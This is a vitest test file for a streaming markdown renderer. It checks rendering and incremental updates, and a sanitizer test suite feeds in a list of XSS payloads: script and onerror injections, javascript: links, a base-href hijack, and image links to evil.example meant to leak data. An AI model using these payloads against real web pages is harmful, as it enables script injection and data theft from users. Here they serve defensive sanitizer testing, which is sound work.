// @vitest-environment happy-dom
import fc from 'fast-check'
import { afterEach, describe, expect, test } from 'vitest'
import { follow } from '../../../src/client/markdown/follow.ts'
import { mount as mountInto } from '../../../src/client/markdown/mount.ts'
import { createMirror, words } from './oracle.ts'
import type { Plain } from './oracle.ts'
import sample from './document.md?raw'

/** The whole text each time, as the page hands it over. */
function mount() {
  const host = document.createElement('div')
  document.body.append(host)
  const mounted = mountInto(host, { words })
  return { host, view: { update: follow(mounted, Infinity).show, destroy: mounted.reset } }
}

function draw(text: string): HTMLElement {
  const { host, view } = mount()
  view.update(text, false)
  return host
}

/** Where raw marks may show. */
const hidden = ({ tag, attributes }: Exclude<Plain, string>): boolean => tag === 'code' || 'data-html' in attributes || 'data-maths' in attributes

afterEach(() => document.body.replaceChildren())

describe('markdown as nodes', () => {
  test('draws headings, lists, tasks, tables, quotes and code', () => {
    const host = draw(sample)
    expect(host.querySelector('h2')?.innerHTML).toBe('A <strong>bold</strong> title')
    expect([...host.querySelectorAll('ol > li')].length).toBe(3)
    expect([...host.querySelectorAll('[data-checkbox]')].map((box) => box.getAttribute('data-checkbox'))).toEqual(['off', 'on'])
    expect([...host.querySelectorAll('th')].map((cell) => cell.textContent)).toEqual(['Left', 'Right'])
    expect(host.querySelector('td[data-align=right]')?.textContent).toBe('1')
    expect(host.querySelector('blockquote li')?.textContent).toBe('and a list')
    expect(host.querySelector('figure[data-code=ts] code')?.textContent).toBe('const a = "**not bold**" // `ticks`\nif (a < 2 && b > 3) { return [a](b) }')
    expect(host.textContent).toContain('with & entity, — dash, <b>raw html</b> and')
    expect(host.querySelector('p br')).not.toBeNull()
  })

  test('has the marks of a list, quote or table where its own words begin, and what is in it on the same side', () => {
    const host = draw('مرحبا\n\n- one\n  - two\n\n> three\n\n> [!NOTE]\n> four\n\n| five |\n|---|\n| six |\n\n1. x')
    const sides = (selector: string) => [...host.querySelectorAll(selector)].map((one) => one.getAttribute('dir'))
    expect(sides('ul, ol')).toEqual(['auto', null, 'auto'])
    expect(sides('blockquote')).toEqual(['auto', 'auto'])
    expect(sides('[data-table]')).toEqual(['auto'])
    // A title in the page's language says nothing of the alert's.
    expect(sides('[data-alert-title]')).toEqual(['auto'])
  })

  test('leaves no hole in the outline, wherever an answer begins', () => {
    const host = draw('### a\n\n#### b\n\n### c\n\n# d\n\n### e\n\n> ## in a quote')
    expect([...host.querySelectorAll('[data-depth]')].map((heading) => heading.tagName)).toEqual(['H2', 'H3', 'H2', 'H2', 'H3', 'H4'])
  })

  test('shows a formula as one from its first sign on, and prices as what they are: what is shown only grows', () => {
    const { host, view } = mount()
    const whole = 'So $x^2 \\vec{v}$ and $\\url{https://example.org/}$ then $a + b_1*c$, *em* $E = mc^2$; it costs $100 or $5 and $HOME is *no* price.'
    let before = ''
    for (let end = 1; end <= whole.length; end++) {
      view.update(whole.slice(0, end), true)
      expect([end, host.textContent.startsWith(before)]).toEqual([end, true])
      before = host.textContent
    }
    view.update(whole, false)
    expect(host.textContent).toBe('So x^2 \\vec{v} and \\url{https://example.org/} then a + b_1*c, em E = mc^2; it costs $100 or $5 and $HOME is no price.')
  })

  test('gives code its language and keeps its exact source', () => {
    const source = '  indented\n\ttabbed  \n<b>&amp;</b>\n\nlast'
    const host = draw(`\`\`\`html\n${source}\n\`\`\``)
    expect(host.querySelector('figcaption span')?.textContent).toBe('html')
    expect(host.querySelector('pre > code')?.textContent).toBe(source)
  })

  test('keeps finished blocks, their nodes and their texts while more comes', () => {
    const { host, view } = mount()
    view.update('First **paragraph**.\n\nSecond', true)
    const first = host.querySelector('p')
    const second = host.querySelectorAll('p')[1]?.firstChild
    view.update('First **paragraph**.\n\nSecond grows\n\n- third', true)
    view.update('First **paragraph**.\n\nSecond grows\n\n- third', false)
    expect(host.querySelector('p')).toBe(first)
    expect(host.querySelectorAll('p')[1]?.firstChild).toBe(second)
    expect(second?.textContent).toBe('Second grows')
  })

  test('settles without replacing a node', () => {
    const { host, view } = mount()
    view.update(sample, true)
    const before = [...host.querySelectorAll('*')]
    view.update(sample, false)
    expect([...host.querySelectorAll('*')]).toEqual(before)
  })

  test('a link that waited for its definition is completed', () => {
    const { host, view } = mount()
    view.update('See [this][ref].\n\nMore.', true)
    expect(host.querySelector('a')).toBeNull()
    view.update('See [this][ref].\n\nMore.\n\n[ref]: https://exam', true)
    expect(host.querySelector('a')).toBeNull()
    view.update('See [this][ref].\n\nMore.\n\n[ref]: https://example.com/\n', true)
    expect(host.querySelector('a')?.href).toBe('https://example.com/')
  })

  test('any way of cutting a text gives the nodes of the whole', () => {
    const whole = draw(sample)
    fc.assert(
      fc.property(fc.array(fc.integer({ min: 0, max: sample.length }), { maxLength: 25 }), (cuts) => {
        const { host, view } = mount()
        for (const cut of [...cuts].sort((a, b) => a - b)) view.update(sample.slice(0, cut), true)
        view.update(sample, false)
        expect(host.isEqualNode(whole), host.innerHTML).toBe(true)
        host.remove()
      }),
      { numRuns: 60 },
    )
  })

  test('half-typed marks are never shown raw', () => {
    const { text, read } = createMirror()
    const shown = (plain: readonly Plain[]): string => plain.map((each) => (typeof each === 'string' ? each : hidden(each) ? '' : shown(each.kids))).join('')
    for (let end = 1; end <= sample.length; end++) {
      text.push(sample.charAt(end - 1))
      text.step(false)
      const tail = JSON.stringify(sample.slice(Math.max(0, end - 40), end))
      expect(shown(read()), tail).not.toMatch(/\*\*|```|~~|\]\(|\|\s*:?-|^#|\n#/)
    }
  })

  test('destroying leaves the element empty', () => {
    const { host, view } = mount()
    view.update('text', false)
    view.destroy()
    expect(host.childNodes.length).toBe(0)
  })
})

const hostile = [
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<a href="javascript:alert(1)">x</a>', '<details open ontoggle=alert(1)>x</details>',
  '[x](javascript:alert(1))', '[x](JaVaScRiPt:alert(1))', '[x](java\tscript:alert(1))', '[x](&#106;avascript:alert(1))', '[x](javascript&colon;alert(1))',
  '[x](<java\nscript:alert(1)>)', '[x](data:text/html,<script>alert(1)</script>)', '[x](vbscript:msgbox)', '[x](//evil.example)', '[x](/api/threads)', '[x](\\\\evil)',
  '<javascript:alert(1)>', '[x][r]\n\n[r]: javascript:alert(1)', '![x](javascript:alert(1))', '![a](https://evil.example/?q=S)', '![a][r]\n\n[r]: https://evil.example/?q=S',
  '[r]: https://evil.example/?q=S\n\n![ref][r] and ![r][] and ![r] and [![r][r]][r]', '> [r]: <https://evil.example/?q=S>\n>\n> - ![ref][r',
  '[![a](https://evil.example/i)](https://evil.example/)', '<style>*{display:none}</style>', '<base href="https://evil.example/">', '<form action=/api><button>x</button></form>',
  '<meta http-equiv=refresh content="0;url=//evil">', '<kbd onclick=alert(1)>x</kbd>', '<sub><img src=x onerror=alert(1)></sub>', '```"><script>alert(1)</script>\nx\n```',
  '| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:1) |', '[https://good.example](https://evil.example)', '[x](https://good.example@evil.example/)',
]

describe('hostile markdown', () => {
  const allowed = new Set(['P', 'H2', 'H3', 'H4', 'H5', 'H6', 'UL', 'OL', 'LI', 'A', 'STRONG', 'EM', 'DEL', 'CODE', 'PRE', 'FIGURE', 'FIGCAPTION', 'SPAN', 'BUTTON', 'BLOCKQUOTE', 'HR', 'BR',
    'DIV', 'SECTION', 'TABLE', 'THEAD', 'TBODY', 'TR', 'TH', 'TD', 'SUB', 'SUP', 'KBD', 'MARK', 'U', 'S'])

  function inspect(host: HTMLElement): void {
    for (const element of host.querySelectorAll('*')) {
      expect(allowed.has(element.tagName), element.tagName).toBe(true)
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on|^style$|^src|^action$/)
        if (name === 'href' && !(element.hasAttribute('data-act') && value === '#')) expect(value).toMatch(/^(?:https?:\/\/|mailto:)/)
      }
      if (element.tagName === 'A' && !element.hasAttribute('data-act')) expect(element.getAttribute('rel')).toBe('noopener noreferrer')
    }
  }

  test.each(hostile)('makes nothing dangerous of %j, whole and at every prefix', (text) => {
    inspect(draw(text))
    const { host, view } = mount()
    for (let end = 1; end <= text.length; end++) {
      view.update(text.slice(0, end), true)
      inspect(host)
    }
  })

  test('a link tells its real host, without credentials that pretend to be one', () => {
    expect(draw('[x](https://good.example@evil.example/)').querySelector('a')?.title).toBe('Goes to evil.example')
    expect(draw('[x](https://good.example@evil.example/)').querySelector('a')?.href).toBe('https://evil.example/')
  })

  test('an image is a button that names its host, never an img; one in a link stands behind it, and one without a web address is words', () => {
    const button = draw('![a chart](https://evil.example/?q=SECRET)').querySelector('button')
    expect([button?.textContent, button?.dataset['act'], button?.dataset['image']]).toEqual(['Image a chart evil.example', 'picture', 'https://evil.example/?q=SECRET'])
    const linked = draw('[![a](https://evil.example/i)](https://good.example/)')
    expect([linked.querySelector('a')?.textContent, linked.querySelector('a + button')?.textContent]).toEqual(['good.example', 'Image a evil.example'])
    for (const address of ['mailto:a@b.example', 'javascript:alert(1)', '/here']) expect(draw(`![a](${address})`).querySelector('button')).toBeNull()
  })

  test('what nobody would see is named, in texts, code and links, and the text stays what it is', () => {
    const host = draw('a\u202eb [pay\u200bpal](https://e.org/) `x\u2066y` | soft\u00adhyphen 👩‍🚀\n\n- \u001b[31mred')
    expect([...host.querySelectorAll('[data-hidden]')].map((mark) => mark.getAttribute('data-hidden'))).toEqual(['RLO', 'ZWSP', 'LRI', 'ESC'])
    expect(host.textContent).toBe('a\u202eb pay\u200bpal x\u2066y | soft\u00adhyphen 👩‍🚀\u001b[31mred')
  })

  test.each(['[', '*', '|', '`a', '![', '> ', '**a ', '~~a ', '_a ', '$a', '[a](b ', '<sub>'])('thirty thousand characters of %j are drawn in a moment', (mark) => {
    const { view } = mount()
    const startedAt = performance.now()
    view.update(mark.repeat(30_000 / mark.length), true)
    // No measure of speed: time that grows with the square of the length would be minutes here.
    expect(performance.now() - startedAt).toBeLessThan(15_000)
  })

  test('deep nesting is cut off, not followed to the end of the stack', () => {
    expect(draw('> '.repeat(500) + 'x').textContent).toContain('x')
    expect(draw('> '.repeat(20_000) + 'x').textContent).toContain('x')
    expect(draw('*_'.repeat(300) + 'x' + '_*'.repeat(300)).textContent).toContain('x')
  })
})
